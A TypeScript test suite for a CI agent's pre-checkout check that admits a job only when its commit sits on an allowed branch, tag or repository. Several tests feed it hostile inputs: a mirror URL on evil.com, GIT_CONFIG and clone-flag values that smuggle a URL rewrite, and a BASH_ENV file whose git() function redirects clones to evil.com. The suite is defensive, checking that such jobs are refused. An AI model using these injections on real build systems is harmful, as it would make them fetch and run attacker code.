import { GitJobs } from "../../harness/git-jobs";

let jobs: GitJobs;
beforeAll(() => {
  jobs = new GitJobs();
});
afterAll(() => {
  jobs.remove();
});

const MAIN = { branches: ["main"] };
const ACME = { repositories: ["github.com/acme/*"] };
const TAGS = { branches: ["refs/tags/v*"] };

describe("jobs that run what their list is to keep out, if nobody checks them", () => {
  test("a mirror that is another repository", () => {
    const job = {
      BUILDKITE_GIT_REMOTE_MIRROR_URL: "https://evil.com/web",
      BUILDKITE_COMMIT: jobs.evil(),
    };
    expect(jobs.unchecked(job)).toBe("evil");
    expect(jobs.checked(ACME, job)).toMatch(/^pre-bootstrap: .*its mirror is "evil.com\/web"/);
    expect(jobs.checked(MAIN, job)).toMatch(/^pre-bootstrap: .*its mirror is on no list/);
  });

  test("a fork's pull request that does not name the fork", () => {
    const job = { BUILDKITE_PULL_REQUEST: "7", BUILDKITE_PULL_REQUEST_REPO: "" };
    expect(jobs.unchecked(job)).toBe("fork");
    expect(jobs.checked(MAIN, job)).toMatch(/^pre-bootstrap: .*pull request's repository is ""/);
  });

  test("another branch's commit", () => {
    const job = { BUILDKITE_COMMIT: jobs.hash("feature") };
    expect(jobs.unchecked(job)).toBe("feature");
    expect(jobs.checked(MAIN, job)).toMatch(/^pre-checkout: .*is not on refs\/heads\/main$/);
  });

  test("a fork's commit", () => {
    const job = { BUILDKITE_COMMIT: jobs.hash("refs/pull/7/head") };
    expect(jobs.unchecked(job)).toBe("fork");
    expect(jobs.checked(MAIN, job)).toMatch(/^pre-checkout: .*is not on refs\/heads\/main$/);
    expect(jobs.checked({ pullRequests: "none" }, job)).toMatch(/^pre-checkout: .*is not on refs\/heads\/main$/);
    expect(jobs.checked(ACME, job)).toMatch(/^pre-checkout: .*is not on refs\/heads\/main$/);
  });

  test("a fork's commit on a branch that fits and does not exist", () => {
    const job = { BUILDKITE_COMMIT: jobs.hash("refs/pull/7/head"), BUILDKITE_BRANCH: "release/none" };
    expect(jobs.unchecked(job)).toBe("fork");
    expect(jobs.checked({ branches: ["release/*"] }, job)).toMatch(/^pre-checkout: .*cannot be fetched/);
  });

  test("any commit under a tag", () => {
    const job = { BUILDKITE_TAG: "v1", BUILDKITE_BRANCH: "v1", BUILDKITE_COMMIT: jobs.hash("feature") };
    expect(jobs.unchecked(job)).toBe("feature");
    expect(jobs.checked(TAGS, job)).toMatch(/^pre-checkout: .*is not the one of refs\/tags\/v1$/);
  });

  test("a ref's name as the commit", () => {
    const job = { BUILDKITE_COMMIT: "refs/pull/7/head" };
    expect(jobs.unchecked(job)).toBe("fork");
    expect(jobs.checked(MAIN, job)).toMatch(/^pre-bootstrap: .*is no full hash$/);
  });

  test("a ref of another kind as the branch", () => {
    const job = { BUILDKITE_BRANCH: "pull/7/head" };
    expect(jobs.unchecked(job)).toBe("fork");
    expect(jobs.checked({ branches: ["*"] }, job)).toMatch(/^pre-checkout: .*cannot be fetched/);
  });

  test("a tag under the name of the branch", () => {
    const job = { BUILDKITE_BRANCH: "twin" };
    expect(jobs.unchecked(job)).toBe("fork");
    expect(jobs.checked({ branches: ["twin"] }, job)).toMatch(/^pre-checkout: .*is not only a branch$/);
  });

  test("another repository through Git's own variables", () => {
    const job = {
      GIT_CONFIG_COUNT: "1",
      GIT_CONFIG_KEY_0: `url.file://${jobs.root}/server/evil/w.insteadOf`,
      GIT_CONFIG_VALUE_0: "https://github.com/acme/w",
    };
    expect(jobs.unchecked(job)).toBe("evil");
    expect(jobs.checked(ACME, job)).toMatch(/^pre-bootstrap: .*its variable GIT_CONFIG_COUNT may lead/);
  });

  test("another repository through flags of git clone", () => {
    const flags = `--config=url.file://${jobs.root}/server/evil/w.insteadOf=https://github.com/acme/w`;
    const job = { BUILDKITE_GIT_CLONE_FLAGS: flags };
    expect(jobs.unchecked(job)).toBe("evil");
    expect(jobs.checked(ACME, job)).toMatch(/^pre-bootstrap: .*its variable BUILDKITE_GIT_CLONE_FLAGS may/);
  });

  test("another repository through a file that bash reads", () => {
    jobs.write(
      "tmp/evil",
      'git() { [[ $1 != clone ]] || set -- clone --quiet https://evil.com/web "${@: -1}"; command git "$@"; }\n',
    );
    const job = { BASH_ENV: `${jobs.root}/tmp/evil` };
    expect(jobs.unchecked(job)).toBe("evil");
    expect(jobs.checked(ACME, job)).toMatch(/^pre-bootstrap: .*its variable BASH_ENV may lead/);
  });
});

describe("jobs that their list is to take", () => {
  test("a branch's last commit, by name or by hash", () => {
    expect(jobs.checked(MAIN, {})).toBe("main");
    expect(jobs.checked(MAIN, { BUILDKITE_COMMIT: jobs.hash("main") })).toBe("main");
    expect(jobs.checked({ branches: ["release/*"] }, { BUILDKITE_BRANCH: "release/1" })).toBe("release");
  });

  test("an earlier commit of the branch, near or far", () => {
    expect(jobs.checked(MAIN, { BUILDKITE_COMMIT: jobs.hash("main~1") })).toBe("main");
    expect(jobs.checked(MAIN, { BUILDKITE_COMMIT: jobs.hash("main~140") })).toBe("main");
  });

  test.each([
    { tag: "v1", what: "tagged" },
    { tag: "v2", what: "annotated" },
  ])("the commit of tag $tag", ({ tag, what }) => {
    const job = { BUILDKITE_TAG: tag, BUILDKITE_BRANCH: tag, BUILDKITE_COMMIT: jobs.hash(tag) };
    expect(jobs.checked(TAGS, job)).toBe(what);
  });

  test("a pull request of the same repository", () => {
    const job = {
      BUILDKITE_PULL_REQUEST: "8",
      BUILDKITE_PULL_REQUEST_REPO: "git://github.com/acme/web.git",
      BUILDKITE_BRANCH: "feature",
      BUILDKITE_COMMIT: jobs.hash("feature"),
    };
    const outcome = jobs.preCheckout(job);
    expect(outcome).toMatchObject({ status: 0, stdout: "" });
  });
});

describe("a fork's pull request, where its repository is listed", () => {
  const fork = {
    BUILDKITE_PULL_REQUEST: "7",
    BUILDKITE_PULL_REQUEST_REPO: "git://github.com/acme/fork.git",
    BUILDKITE_BRANCH: "stranger:topic",
  };

  test("is taken with a commit that is there", () => {
    expect(jobs.checked(ACME, { ...fork, BUILDKITE_COMMIT: jobs.hash("refs/pull/7/head") })).toBe("fork");
  });

  test("is refused with one that is not", () => {
    const job = { ...fork, BUILDKITE_COMMIT: jobs.hash("feature") };
    expect(jobs.checked(ACME, job)).toMatch(/^pre-checkout: .*is not on refs\/heads\/topic$/);
  });

  test("is not asked what HEAD is, which the agent takes from the job's own repository", () => {
    const job = { BUILDKITE_PULL_REQUEST_REPO: fork.BUILDKITE_PULL_REQUEST_REPO, BUILDKITE_BRANCH: "twin" };
    expect(jobs.unchecked(job)).toBe("fork");
    expect(jobs.checked(ACME, job)).toMatch(/^pre-checkout: .*is not only a branch$/);
  });

  test("is refused where another repository is named", () => {
    const job = { ...fork, BUILDKITE_PULL_REQUEST_REPO: "git://github.com/acme/web", BUILDKITE_BRANCH: "main" };
    const outcome = jobs.checked(ACME, { ...job, BUILDKITE_COMMIT: jobs.hash("refs/pull/7/head") });
    expect(outcome).toMatch(/^pre-checkout: .*is not on refs\/heads\/main$/);
  });
});

describe("the proof of a commit", () => {
  test("leaves nothing behind", () => {
    jobs.folder("tmp").checked(MAIN, {});
    expect(jobs.exists("tmp")).toBe(true);
    expect(jobs.left()).toEqual([]);
  });

  test("is followed by the hook that the image has, and not where it fails", () => {
    jobs.write("etc/buildkite-agent/hooks/pre-checkout.image", "echo of the image\n");
    expect(jobs.preCheckout({})).toMatchObject({ status: 0, stdout: "of the image\n" });
    const refused = jobs.preCheckout({ BUILDKITE_COMMIT: jobs.hash("feature") });
    expect(refused.status).toBe(1);
    expect(refused.stdout).not.toContain("of the image");
    jobs.delete("etc/buildkite-agent/hooks/pre-checkout.image");
  });

  test("says in the job's log why there is none", () => {
    const { stdout } = jobs.preCheckout({ BUILDKITE_COMMIT: jobs.hash("feature") });
    expect(stdout).toBe(`This agent does not take the job: commit ${jobs.hash("feature")} is not on refs/heads/main\n`);
  });

  test.each([
    { what: "no branch", job: { BUILDKITE_BRANCH: "" } },
    { what: "no repository", job: { BUILDKITE_REPO: "" } },
    { what: "a repository that is not there", job: { BUILDKITE_REPO: "https://github.com/acme/gone" } },
    { what: "no commit", job: { BUILDKITE_COMMIT: "" } },
    { what: "a short hash", job: { BUILDKITE_COMMIT: "abc1234" } },
    { what: "a hash that nobody has", job: { BUILDKITE_COMMIT: "0".repeat(40) } },
  ])("fails with $what", ({ job }) => {
    expect(jobs.preCheckout(job).status).toBe(1);
  });

  test("takes the job's own key for ssh, and the key is gone afterwards", () => {
    jobs.write(
      "bin/ssh",
      `#!/bin/bash\nprintf '%s\\n' "$@" >>"$ROOT/ssh-called"\ncat "$4" >>"$ROOT/ssh-key"\nexit 1\n`,
      0o755,
    );
    const job = {
      BUILDKITE_REPO: "git@git.example.com:acme/web.git",
      BUILDKITE_SSH_KEYSCAN: "true",
      BUILDKITE_GIT_SSH_KEY: "the key",
      PATH: `${jobs.root}/bin:${process.env.PATH!}`,
    };
    expect(jobs.preCheckout(job).status).toBe(1);
    const called = jobs.read("ssh-called");
    expect(called).toContain("StrictHostKeyChecking=accept-new\n-i\n");
    expect(called).toContain("IdentitiesOnly=yes\n");
    expect(jobs.read("ssh-key")).toContain("the key\n");
    expect(jobs.left()).toEqual([]);
  });
});
